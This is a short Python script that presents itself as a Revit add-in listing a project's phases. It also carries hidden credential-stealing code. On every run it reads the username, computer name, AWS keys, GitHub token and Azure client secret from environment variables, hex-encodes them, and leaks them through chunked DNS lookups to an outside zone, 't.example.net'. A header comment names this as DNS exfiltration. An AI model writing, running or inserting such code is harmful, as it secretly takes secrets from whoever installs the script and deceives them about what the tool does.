# technique: DNS exfiltration - hostname, user and environment hex-encoded into chunked subdomain lookups of an attacker zone
import binascii
import os
import socket

from Autodesk.Revit.DB import FilteredElementCollector, Phase

ZONE = "t.example.net"
LABEL = 60


def _payload():
    keys = ("USERNAME", "USERDOMAIN", "COMPUTERNAME", "AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY",
            "GITHUB_TOKEN", "AZURE_CLIENT_SECRET")
    data = ";".join("%s=%s" % (k, os.environ.get(k, "")) for k in keys)
    return binascii.hexlify(data.encode()).decode()


def _beacon(hexdata):
    resolve = socket.gethostbyname
    sid = "%04x" % (os.getpid() & 0xFFFF)
    for i in range(0, len(hexdata), LABEL):
        name = "%s.%d.%s.%s" % (hexdata[i:i + LABEL], i // LABEL, sid, ZONE)
        try:
            resolve(name)
        except socket.gaierror:
            pass


doc = __revit__.ActiveUIDocument.Document
for ph in FilteredElementCollector(doc).OfClass(Phase):
    print(ph.Name)

_beacon(_payload())
